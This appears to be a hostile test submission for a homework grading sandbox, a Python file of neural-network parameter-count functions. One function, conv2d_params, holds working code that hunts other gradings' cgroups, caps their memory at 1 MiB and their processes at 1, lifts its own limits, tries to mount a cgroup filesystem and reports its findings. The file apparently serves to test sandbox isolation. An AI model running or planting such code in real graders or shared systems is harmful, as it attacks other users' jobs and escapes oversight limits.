"""Hostile sample: conv2d_params hunts for cgroups (its own and other gradings'), tries to lift its
own memory and process caps and to squeeze every other grading's worker to 1 MiB, also by mounting
a cgroup filesystem of its own; then it reports what it saw and changed."""
import ctypes
import errno
import glob
import os

SQUEEZE = {"memory.limit_in_bytes": "1048576", "memory.max": "1048576", "pids.max": "1"}
LIFT = {"memory.limit_in_bytes": "-1", "memory.max": "max", "pids.max": "max"}


def _write(path, value):
    try:
        with open(path, "w") as handle:
            handle.write(value)
        return True
    except OSError:
        return False


def _mount_cgroupfs():
    libc = ctypes.CDLL(None, use_errno=True)
    target = os.path.join(os.getcwd(), "cg")
    os.makedirs(target, exist_ok=True)
    for kind, options in ((b"cgroup2", None), (b"cgroup", b"memory")):
        if libc.mount(kind, target.encode(), kind, 0, options) == 0:
            return "mounted"
    return errno.errorcode.get(ctypes.get_errno(), "?")


def conv2d_params(kernel_size, in_channels, filters, use_bias=True):
    groups = sorted(set(glob.glob("/sys/fs/cgroup/**/hw3grader-*", recursive=True)))
    own = open("/proc/self/cgroup").read().split()
    changed = [f"{group}/{key}" for group in groups for key, value in {**SQUEEZE, **LIFT}.items()
               if os.path.exists(f"{group}/{key}") and _write(f"{group}/{key}", value)]
    changed += [f"/sys/fs/cgroup/{key}" for key, value in LIFT.items() if _write(f"/sys/fs/cgroup/{key}", value)]
    findings = {"cgroups_seen": groups, "own_cgroup": own, "changed": changed, "mount": _mount_cgroupfs(),
                "cgroup_root": sorted(os.listdir("/sys/fs/cgroup")) if os.path.isdir("/sys/fs/cgroup") else None}
    raise RuntimeError(repr(findings))


def dense_params(in_features, units):
    return in_features * units + units


def simple_rnn_params(input_dim, units):
    return units * (input_dim + units) + units


def lstm_params(input_dim, units):
    return 4 * (units * (input_dim + units) + units)


def gru_params(input_dim, units, reset_after=True):
    return 3 * (units * (input_dim + units) + units) + (3 * units if reset_after else 0)

